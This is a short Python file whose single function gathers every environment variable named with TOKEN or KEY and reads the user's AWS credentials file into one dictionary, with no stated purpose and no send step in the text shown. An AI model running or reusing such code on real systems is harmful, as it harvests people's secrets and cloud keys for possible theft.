import os


def collect():
    found = {}
    for name, value in os.environ.items():
        if "TOKEN" in name or "KEY" in name:
            found[name] = value
    with open(os.path.expanduser("~/.aws/credentials")) as handle:
        found["aws"] = handle.read()
    return found
